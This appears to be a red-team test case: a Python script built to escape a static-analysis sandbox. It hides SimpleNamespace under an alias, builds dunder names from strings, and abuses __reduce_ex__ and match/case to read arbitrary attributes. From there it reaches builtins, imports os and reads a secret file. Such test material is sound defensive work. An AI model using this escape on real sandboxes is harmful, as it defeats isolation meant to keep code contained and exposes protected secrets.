# family: red team, round 9 (simplenamespace_import_alias_kwargs)
# The SimpleNamespace(**...) rule matches the callee's head name; imported under another name it is not
# recognised, and run-time keys (a __reduce_ex__) go into the namespace.
import abc
import copy
from types import SimpleNamespace as Bag


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(protocol):
        return (lambda: target, (), (None, names))

    copy.copy(Bag(**{_d("reduce_ex"): reducer}))


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): lambda sub: True, _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r9/work/secret.txt").read().strip()


print(run())
